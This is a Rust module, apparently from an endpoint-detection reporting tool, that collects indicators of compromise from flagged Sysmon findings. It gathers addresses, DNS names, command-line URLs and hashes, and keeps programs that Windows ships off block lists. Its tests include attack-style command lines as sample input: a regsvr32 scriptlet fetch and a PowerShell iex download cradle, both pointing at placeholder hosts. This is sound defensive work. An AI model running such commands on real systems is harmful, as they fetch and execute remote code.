//! What to look for elsewhere: addresses, names, URLs and hashes of flagged processes. It judges none of them and escapes nothing: the template does.
//!
//! A process's story counts too: its later connections are as telling as the one that a rule matched.

use std::collections::{BTreeMap, BTreeSet};

use super::Limited;
use crate::finding::story::{Count, Process};
use crate::finding::{EvidenceEvent, Finding, Outcome, Scope, earliest};
use crate::report::escape::{defanged, truncated};
use crate::report::subject::{Subject, joined};
use crate::report::words::{moment, some_of};
use crate::time::Timestamp;

/// Rows of one list, at most.
const ROWS: usize = 500;
/// Longest value that is shown whole, in bytes.
const VALUE_LIMIT: usize = 400;
/// URLs that are taken from one command line.
const URLS: usize = 20;
/// Facts told of one value.
const FACTS: usize = 3;

/// What the section shows.
pub struct Iocs {
    /// One list per kind that is there.
    pub lists: Vec<List>,
    /// How many values there are.
    pub total: usize,
    /// The values to hand on, defanged.
    pub defanged: Vec<String>,
    /// The same as the log has them.
    pub plain: Vec<String>,
}

/// The values of one kind.
pub struct List {
    /// What they are.
    pub title: &'static str,
    /// What to know about them.
    pub note: &'static str,
    /// They, sorted.
    pub rows: Limited<Ioc>,
}

/// A value to look for.
pub struct Ioc {
    /// As nothing turns it into a link.
    pub defanged: String,
    /// Its scope, its program, its name: what the evidence says of it.
    pub known: String,
    /// On how many hosts.
    pub hosts: usize,
    /// In how many findings.
    pub findings: usize,
    /// First UtcTime.
    pub first: String,
    /// Last UtcTime.
    pub last: String,
}

/// The kinds, in the page's order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Kind {
    External,
    Internal,
    Name,
    Url,
    Hash,
}

impl Kind {
    const ALL: [Self; 5] = [Self::External, Self::Internal, Self::Name, Self::Url, Self::Hash];

    fn title(self) -> &'static str {
        match self {
            Self::External => "External addresses",
            Self::Internal => "Internal addresses",
            Self::Name => "Names",
            Self::Url => "URLs in command lines",
            Self::Hash => "Hashes of flagged programs",
        }
    }

    fn note(self) -> &'static str {
        match self {
            Self::External => "that flagged processes exchanged packets with.",
            Self::Internal => {
                "that flagged processes exchanged packets with: private, link-local, multicast, reserved."
            }
            Self::Name => "that were asked for, or that Sysmon gave to an address.",
            Self::Url => "are derived from text; that one was fetched is not said.",
            Self::Hash => "Blocking the hash of a program that Windows ships blocks Windows' own.",
        }
    }
}

/// What is gathered of one value.
#[derive(Default)]
struct Seen<'a> {
    hosts: BTreeSet<&'a str>,
    findings: BTreeSet<&'a str>,
    known: BTreeSet<String>,
    first: Option<Timestamp>,
    last: Option<Timestamp>,
    /// Windows' own: not for a block list.
    own: bool,
}

impl Iocs {
    /// The IOCs of `outcome`'s findings.
    pub fn of(outcome: &Outcome) -> Self {
        let mut gathered = Gathered::default();
        for finding in &outcome.findings {
            gathered.add(finding);
        }
        let seen = gathered.seen;
        let handed: Vec<&str> = seen
            .iter()
            .filter(|((kind, value), seen)| {
                *kind != Kind::Internal && !seen.own && value.len() <= VALUE_LIMIT
            })
            .map(|((_, value), _)| value.as_str())
            .collect();
        let list = |kind: Kind| {
            let rows =
                seen.iter().filter(|((of, _), _)| *of == kind).map(|((_, value), seen)| ioc(value, seen));
            List { title: kind.title(), note: kind.note(), rows: Limited::of(rows.collect(), ROWS) }
        };
        Self {
            lists: Kind::ALL.into_iter().map(list).filter(|list| !list.rows.is_empty()).collect(),
            total: seen.len(),
            defanged: handed.iter().map(|value| defanged(value)).collect(),
            plain: handed.into_iter().map(str::to_owned).collect(),
        }
    }
}

fn ioc(value: &str, seen: &Seen<'_>) -> Ioc {
    // Public goes without saying.
    let scope = Scope::of(value).filter(|scope| *scope != Scope::Public);
    let scope = scope.map(|scope| scope.as_str().replace('_', "-"));
    let known: Vec<String> = seen.known.iter().cloned().collect();
    let known = some_of(&known, FACTS);
    let text = |time: Option<Timestamp>| time.map(moment).unwrap_or_default();
    Ioc {
        defanged: line(&defanged(value)),
        known: line(&joined(&known, ", ", &scope.unwrap_or_default())),
        hosts: seen.hosts.len(),
        findings: seen.findings.len(),
        first: text(seen.first),
        last: text(seen.last),
    }
}

/// Values by kind, each once.
#[derive(Default)]
struct Gathered<'a> {
    seen: BTreeMap<(Kind, String), Seen<'a>>,
}

impl<'a> Gathered<'a> {
    fn add(&mut self, finding: &'a Finding) {
        for event in finding.present() {
            let when = Count { count: 1, first: Some(event.timestamp), last: Some(event.timestamp) };
            self.address(finding, &far_side(event), when, &[event.text("destination.domain")]);
            self.name(finding, event.text("destination.domain"), when);
            self.name(finding, event.text("dns.question.name"), when);
        }
        self.process(finding);
        let Ok(story) = finding.story.as_deref() else { return };
        // Of what came in, the story keeps this host's own address.
        for reached in story.connections.destinations.shown.iter().filter(|reached| !reached.inbound) {
            self.address(finding, &reached.ip, reached.seen, &reached.names);
            self.name(finding, reached.host_name.clone(), reached.seen);
        }
        for query in &story.queries.shown {
            self.name(finding, query.name.clone(), query.seen);
        }
    }

    fn process(&mut self, finding: &'a Finding) {
        let Some(subject) = Subject::main(finding) else { return };
        let when = finding.present().next().map(|event| event.timestamp);
        let when = Count { count: 1, first: when, last: when };
        for url in urls(&subject.text("process.command_line")) {
            self.seen(finding, Kind::Url, url.to_owned(), when);
        }
        let told = finding.story.as_deref().ok().map(|story| &story.process);
        let hash = ["sha256", "sha1", "md5"].into_iter().find_map(|algorithm| {
            let own = subject.text(&format!("process.hash.{algorithm}"));
            let told = || told?.hashes.get(algorithm).cloned();
            Some(own).filter(|hash| !hash.is_empty()).or_else(told)
        });
        let Some(hash) = hash.filter(|hash| !hash.is_empty()) else { return };
        let program = Process {
            name: subject.process(),
            executable: subject.text("process.executable"),
            original_file_name: subject.text("process.pe.original_file_name"),
            ..Process::default()
        };
        let seen = self.seen(finding, Kind::Hash, hash, when);
        seen.own = ships_with_windows(&program);
        let note = match (seen.own, program.renamed()) {
            (true, _) => format!("{}: a program of Windows under its own name", program.executable),
            (false, Some(true)) => {
                format!("{}, original name {}", program.executable, program.original_file_name)
            }
            _ => program.executable,
        };
        seen.known.insert(note);
    }

    fn address(&mut self, finding: &'a Finding, address: &str, when: Count, names: &[String]) {
        let kind = match Scope::of(address) {
            None | Some(Scope::Loopback) => return,
            Some(Scope::Public | Scope::Documentation) => Kind::External,
            Some(Scope::Private | Scope::LinkLocal | Scope::Multicast | Scope::Reserved) => Kind::Internal,
        };
        let seen = self.seen(finding, kind, address.to_owned(), when);
        seen.known.extend(names.iter().filter(|name| !name.is_empty()).map(|name| defanged(name)));
    }

    fn name(&mut self, finding: &'a Finding, name: String, when: Count) {
        if !name.is_empty() && Scope::of(&name).is_none() {
            self.seen(finding, Kind::Name, name.to_lowercase(), when);
        }
    }

    fn seen(&mut self, finding: &'a Finding, kind: Kind, value: String, when: Count) -> &mut Seen<'a> {
        let seen = self.seen.entry((kind, value)).or_default();
        seen.hosts.insert(&finding.host);
        seen.findings.insert(&finding.id);
        seen.first = earliest(seen.first, when.first);
        seen.last = seen.last.max(when.last);
        seen
    }
}

/// The address of the other side: of a connection that came in its source.
fn far_side(event: &EvidenceEvent) -> String {
    let inbound = event.text("network.direction") == "ingress";
    event.text(if inbound { "source.ip" } else { "destination.ip" })
}

/// Whether the program lies where Windows keeps its own and goes by its own name; a folder in which users can write is none of these.
fn ships_with_windows(program: &Process) -> bool {
    let path = program.executable.to_lowercase();
    let Some((_, inner)) = path.split_once(":\\windows\\") else { return false };
    let direct = |folder: &str| inner.strip_prefix(folder).is_some_and(|name| !name.contains('\\'));
    let own = direct("")
        || direct("system32\\")
        || direct("syswow64\\")
        || inner.starts_with("microsoft.net\\framework");
    own && path.get(1..).is_some_and(|rest| rest.starts_with(":\\windows\\"))
        && program.renamed() != Some(true)
}

/// The `http` and `https` URLs that `text` writes out, each to the next space, quote, bracket or comma.
fn urls(text: &str) -> impl Iterator<Item = &str> {
    let parts = text.split(|character: char| {
        character.is_whitespace()
            || matches!(character, '"' | '\'' | '`' | '<' | '>' | '(' | ')' | '|' | ',' | ';')
    });
    let url = |part: &str| {
        let lower = part.to_ascii_lowercase();
        ["http://", "https://"].iter().filter_map(|scheme| lower.find(scheme)).min()
    };
    let from = move |part| Some((part, url(part)?));
    let found = parts.filter_map(from).filter_map(|(part, at): (&str, usize)| part.get(at..));
    found.map(|url| url.trim_end_matches('.')).filter(|url| url.len() > "https://".len()).take(URLS)
}

fn line(text: &str) -> String {
    truncated(text, VALUE_LIMIT, "see findings.jsonl").into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_end_where_the_shell_ends_them() {
        let found = |text| urls(text).map(str::to_owned).collect::<Vec<_>>();
        assert_eq!(
            found("regsvr32 /s /i:https://cdn.example/a.sct scrobj.dll"),
            ["https://cdn.example/a.sct"]
        );
        assert_eq!(
            found("iex(new-object x).get('HTTP://203.0.113.7/a?b=c').run"),
            ["HTTP://203.0.113.7/a?b=c"]
        );
        assert!(found("http:// https:// ftp://x.example mailto:a").is_empty());
        assert_eq!(found(&"http://a.example/ ".repeat(50)).len(), URLS);
    }

    #[test]
    fn only_what_windows_ships_is_kept_off_the_lists() {
        let program = |executable: &str, original: &str| Process {
            name: executable.rsplit('\\').next().unwrap_or_default().to_owned(),
            executable: executable.to_owned(),
            original_file_name: original.to_owned(),
            ..Process::default()
        };
        for (executable, original, ships) in [
            (r"C:\Windows\System32\mshta.exe", "MSHTA.EXE", true),
            (r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe", "MSBuild.exe", true),
            (r"C:\Windows\explorer.exe", "EXPLORER.EXE", true),
            (r"C:\Windows\System32\mshta.exe", "beacon.exe", false),
            (r"C:\Windows\Temp\mshta.exe", "MSHTA.EXE", false),
            (r"C:\Windows\System32\spool\drivers\color\mshta.exe", "MSHTA.EXE", false),
            (r"C:\Users\anna\C:\Windows\mshta.exe", "MSHTA.EXE", false),
            ("mshta.exe", "MSHTA.EXE", false),
        ] {
            assert_eq!(ships_with_windows(&program(executable, original)), ships, "{executable}");
        }
    }
}
